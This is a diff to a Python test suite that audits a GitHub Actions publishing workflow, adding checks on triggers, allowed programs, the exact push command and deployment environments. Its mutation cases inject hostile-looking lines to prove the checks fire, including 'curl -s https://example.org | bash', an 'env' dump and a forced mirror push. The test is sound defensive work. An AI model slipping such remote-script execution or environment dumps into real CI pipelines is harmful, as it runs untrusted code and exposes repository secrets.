@@ -10,7 +10,10 @@ from book_rules import ROOT
 
 PATH = ROOT / ".github" / "workflows" / "pages.yml"
 TEXT = PATH.read_text(encoding="utf-8")
-TRIGGERS = {"push", "pull_request", "workflow_dispatch"}  # others would run with the rights of the base branch
+# Others would run with the rights of the base branch; filters by path would leave changes untested.
+TRIGGERS = {"push": {"branches-ignore": ["notebooks"]}, "pull_request": None, "workflow_dispatch": None}
+PROGRAMS = {"make", ".venv/bin/playwright", "cp", "diff", ".ci/run", "git"}
+PUSH = ' push --force "$GITHUB_SERVER_URL/$GITHUB_REPOSITORY" notebooks'
 ON_DEFAULT_BRANCH = "github.ref == format('refs/heads/{0}', github.event.repository.default_branch)"
 READ = {"contents": "read"}
 # What a job that publishes may do, by the action or command for which it may.
@@ -56,10 +59,30 @@ def pin_faults(text: str) -> list[str]:
 
 
 def trigger_faults(workflow: dict) -> list[str]:
-    triggers = workflow["on"]
-    names = set(triggers) if not isinstance(triggers, str) else {triggers}
-    faults = [f"the trigger {name}" for name in names - TRIGGERS]
-    return faults + [f"no trigger {name}" for name in {"push", "pull_request"} - names]
+    """List the triggers that run with the rights of the base branch, or what would leave a change untested."""
+    on = workflow["on"]
+    return [
+        f"the trigger {name}: {on.get(name, 'none')}"
+        for name in sorted(on.keys() | TRIGGERS.keys())
+        if name not in TRIGGERS or name not in on or on[name] != TRIGGERS[name]
+    ]
+
+
+def command_faults(workflow: dict) -> list[str]:
+    """List the commands of other programs than the workflow needs, and a push of anything else."""
+    faults = []
+    for name, job in workflow["jobs"].items():
+        for line in "\n".join(map(commands, job["steps"])).splitlines():
+            for command in re.split(r"&&|\|\||[;|]", re.sub(r"'[^']*'", "", line)):
+                program = re.match(r"\s*(\S*)", command)[1]
+                if line.strip() and program not in PROGRAMS:
+                    faults.append(f"{name} runs {command.strip()}")
+                if re.search(r"\bpush\b", command) and not command.rstrip().endswith(PUSH):
+                    faults.append(f"{name} pushes something else: {command}")
+    environments = {name: job.get("environment", {}).get("name") for name, job in workflow["jobs"].items()}
+    if environments != {name: "github-pages" if name == "publish" else None for name in workflow["jobs"]}:
+        faults.append(f"environments are {environments}")
+    return faults
 
 
 def permission_faults(workflow: dict) -> list[str]:
@@ -175,7 +198,7 @@ def concurrency_faults(workflow: dict) -> list[str]:
 
 def faults(text: str) -> list[str]:
     workflow = load(text)
-    rules = [trigger_faults, permission_faults, red_faults, artifact_faults, concurrency_faults]
+    rules = [trigger_faults, command_faults, permission_faults, red_faults, artifact_faults, concurrency_faults]
     return pin_faults(text) + [fault for rule in rules for fault in rule(workflow)]
 
 
@@ -252,7 +275,17 @@ CHANGES = {
     "one group for all": ("book-.*", "book", "concurrency is"),
     "a job is stopped apart": ("    needs: test\n", "    needs: test\n    concurrency: x\n", "stopped apart"),
     "rights of the base branch": ("  pull_request:", "  pull_request:\n  pull_request_target:", "the trigger"),
-    "pull requests untested": ("  pull_request:\n", "", "no trigger pull_request"),
+    "pull requests untested": ("  pull_request:\n", "", "the trigger pull_request: none"),
+    "some pull requests untested": (
+        "  pull_request:\n",
+        "  pull_request: {paths: [lib]}\n",
+        "the trigger pull_request",
+    ),
+    "another branch": (r"branches-ignore: \[notebooks\]", "branches: [master]", "the trigger push"),
+    "somebody's script": ("installed &&", "installed && curl -s https://example.org | bash &&", "test runs curl"),
+    "all is pushed": ("push --force", "push --force --mirror", "pushes something else"),
+    "the environment is shown": ("git add .", "git add . && env", "notebooks runs env"),
+    "another environment": ("name: github-pages", "name: production", "environments are"),
     "no limit": ("    timeout-minutes: 90\n", "", "may hang"),
     "another Python": ('"3.12"', '"3.11"', "Python"),
     "somebody's machine": ("ubuntu-latest", "self-hosted", "runs on"),
